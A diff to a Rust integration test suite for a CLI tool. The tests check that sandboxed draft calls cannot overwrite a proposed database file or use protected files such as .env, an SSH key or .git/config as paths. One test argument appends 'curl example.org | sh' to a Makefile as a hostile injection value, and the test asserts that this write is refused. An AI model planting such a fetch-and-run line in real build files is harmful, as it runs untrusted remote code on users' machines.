@@ -22,6 +22,7 @@ struct World {
 }
 
 const GIT_CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n";
+const MAKEFILE: &str = "all:\n\ttrue\n";
 
 impl World {
     fn new() -> World {
@@ -42,6 +43,7 @@ impl World {
             fs::create_dir_all(d).unwrap();
         }
         fs::write(ws.join(".git/config"), GIT_CONFIG).unwrap();
+        fs::write(ws.join("Makefile"), MAKEFILE).unwrap();
         fs::write(ws.join(".env"), "API_TOKEN=kept-from-runs\n").unwrap();
         fs::write(ws.join(".ssh/id_ed25519"), "not a real key\n").unwrap();
         fs::write(ws.join("data/shelf.db"), "").unwrap();
@@ -109,7 +111,8 @@ fn refused_at_start(mut c: Command) -> String {
 #[test]
 fn a_database_the_catalog_proposes_is_read_but_never_written_by_a_draft() {
     let w = World::new();
-    let proposed = w.ws.join(".git/config");
+    // Any regular file of the home: `make` would run what a draft appended.
+    let proposed = w.ws.join("Makefile");
     let fake = [("DB", proposed.as_path())];
 
     let mut c = w.command(&fake);
@@ -132,12 +135,17 @@ fn a_database_the_catalog_proposes_is_read_but_never_written_by_a_draft() {
     let mut c = w.command(&fake);
     let out = c
         .arg(format!("--home={}", w.ws.display()))
-        .args(["call", "draft", "--arg", "note=[core] fsmonitor = x"])
+        .args([
+            "call",
+            "draft",
+            "--arg",
+            "note=all: ; curl example.org | sh",
+        ])
         .args(["--allow-drafts", "--sandbox", "best-effort"])
         .output()
         .unwrap();
     assert_ne!(out.status.code(), Some(0), "{}", stderr(&out));
-    assert_eq!(fs::read_to_string(&proposed).unwrap(), GIT_CONFIG);
+    assert_eq!(fs::read_to_string(&proposed).unwrap(), MAKEFILE);
 
     // A read-only run is still given the proposal as the database, to read.
     let mut c = w.command(&fake);
@@ -153,7 +161,7 @@ fn a_database_the_catalog_proposes_is_read_but_never_written_by_a_draft() {
         globals.contains(&format!("--db={}", proposed.display())),
         "{globals}"
     );
-    assert_eq!(fs::read_to_string(&proposed).unwrap(), GIT_CONFIG);
+    assert_eq!(fs::read_to_string(&proposed).unwrap(), MAKEFILE);
 }
 
 #[test]
@@ -205,6 +213,7 @@ fn the_catalog_may_not_name_a_protected_file_as_accounts_or_profile() {
         ("ACCOUNTS", "paths.accounts", w.ws.join(".env")),
         ("PROFILE", "paths.profile", w.ws.join(".ssh/id_ed25519")),
         ("DB", "paths.db", w.ws.join(".env")),
+        ("DB", "paths.db", w.ws.join(".git/config")),
     ] {
         let mut c = w.command(&[(knob, &file)]);
         c.arg(format!("--home={}", w.ws.display()));
